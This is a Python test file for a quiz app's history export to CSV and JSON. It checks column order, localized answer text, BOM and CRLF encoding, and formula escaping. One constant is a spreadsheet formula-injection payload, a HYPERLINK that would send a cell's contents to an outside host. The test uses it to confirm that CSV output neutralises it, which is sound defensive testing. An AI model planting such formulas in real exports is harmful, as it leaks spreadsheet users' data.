"""`quiz history --format csv|json`: every answer with its player, class, language, and the answer as it was seen.

docs/history-format.md documents these columns; a teacher's spreadsheet and `quiz report` read them by name.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
from pathlib import Path

import pytest

from quiz.commands import main
from quiz.game import TIMEOUT, Game
from quiz.history import EXPORT_FIELDS
from quiz.model import Kind, Pack
from quiz.packs import Catalog
from quiz.reports import export_history
from quiz.scoring import Mode, ModeName
from quiz.session import Session, Settings
from quiz.store import Store

COLUMNS = [
    *("game_id", "answered_at", "pack_id", "pack_version", "question_id", "answer", "correct", "points"),
    *("certainty", "seconds", "mode", "player", "class", "lang", "answer_text", "answer_position"),
]
"""The export's columns in order, as docs/history-format.md lists them."""
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


def play_game(store: Store, pack: Pack, lang: str, player: str = "Mei", mode: Mode = Mode()) -> Game:
    """A whole game of `pack` (seed 2) answering every question wrongly, with the last wrong answer on screen (and
    sure of it, in certainty mode), but the last question, whose time runs out."""
    session = Session(Catalog((pack,), ()), store, Settings(lang=lang, seed=2, count=None, mode=mode, player=player))
    game = session.start(pack)
    sure = 3 if mode.name is ModeName.CERTAINTY else None
    while len(game.outcomes) < len(game.rounds) - 1:
        right = game.current.question.correct_key
        session.answer([key for key in game.current.order if key != right][-1], certainty=sure)
    session.answer(TIMEOUT, certainty=sure)
    return game


def test_the_columns_and_their_order(private_data: Path, sample_pack: Pack) -> None:
    """The old columns first, as before; then player, class, lang, answer_text and answer_position."""
    store = Store.open(private_data)
    play_game(store, sample_pack, "en")
    assert list(EXPORT_FIELDS) == COLUMNS
    header = next(csv.reader(io.StringIO(export_history(store.answer_records(), "csv"))))
    assert header == COLUMNS
    rows = json.loads(export_history(store.answer_records(), "json"))
    assert all(list(row) == COLUMNS for row in rows)
    assert {type(row["game_id"]) for row in rows} == {int} and {type(row["correct"]) for row in rows} == {bool}


def test_the_answer_as_the_player_saw_it(private_data: Path, sample_pack: Pack) -> None:
    """Beside the stable key: the chosen text in the game's language and its place on screen, counted from 1."""
    store = Store.open(private_data)
    game = play_game(store, sample_pack, "zh")
    rows = json.loads(export_history(store.answer_records(), "json"))
    for row, round_ in zip(rows, game.rounds):
        assert row["lang"] == "zh" and row["player"] == "Mei" and row["class"] is None
        if row["answer"] == TIMEOUT:
            assert row["answer_text"] is None and row["answer_position"] is None
            continue
        assert row["answer_position"] == round_.order.index(row["answer"]) + 1
        question = round_.question
        if question.kind is Kind.CHOICE:
            assert row["answer_text"] == question.choices[int(row["answer"])].text.get("zh")
        else:
            assert row["answer_text"] == {"myth": "谣言", "fact": "事实"}[row["answer"]]
    assert rows[-1]["answer"] == TIMEOUT


def test_the_csv_opens_in_a_spreadsheet(private_data: Path, sample_pack: Pack, tmp_path: Path) -> None:
    """UTF-8 with a byte-order mark and CRLF rows; a cell that would be a formula is text; numbers stay numbers."""
    play_game(Store.open(private_data), sample_pack, "zh", player=FORMULA, mode=Mode(ModeName.CERTAINTY))
    out = tmp_path / "class.csv"
    assert main(["history", "--format", "csv", "-o", str(out)]) == 0
    data = out.read_bytes()
    assert data.startswith(codecs.BOM_UTF8) and data.count(b"\r\n") == len(sample_pack.questions) + 1
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert {row["player"] for row in rows} == {"'" + FORMULA}
    assert {row["lang"] for row in rows} == {"zh"}
    assert any(row["answer_text"] in ("谣言", "事实") for row in rows)
    assert all(int(row["points"]) < 0 for row in rows[:-1])
    assert rows[-1]["answer_text"] == "" and rows[-1]["answer_position"] == "" and rows[-1]["seconds"] == ""
    assert main(["history", "--format", "json", "-o", str(tmp_path / "class.json")]) == 0
    assert {row["player"] for row in json.loads((tmp_path / "class.json").read_text("utf-8"))} == {FORMULA}


def test_csv_on_standard_output_has_the_mark_too(
    private_data: Path, sample_pack: Pack, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """`quiz history --format csv > class.csv` makes the same file, whatever the terminal's encoding."""
    play_game(Store.open(private_data), sample_pack, "zh")
    assert main(["history", "--format", "csv"]) == 0
    data = capsysbinary.readouterr().out
    assert data.startswith(codecs.BOM_UTF8)
    assert data.decode("utf-8-sig") == export_history(Store.open(private_data).answer_records(), "csv")
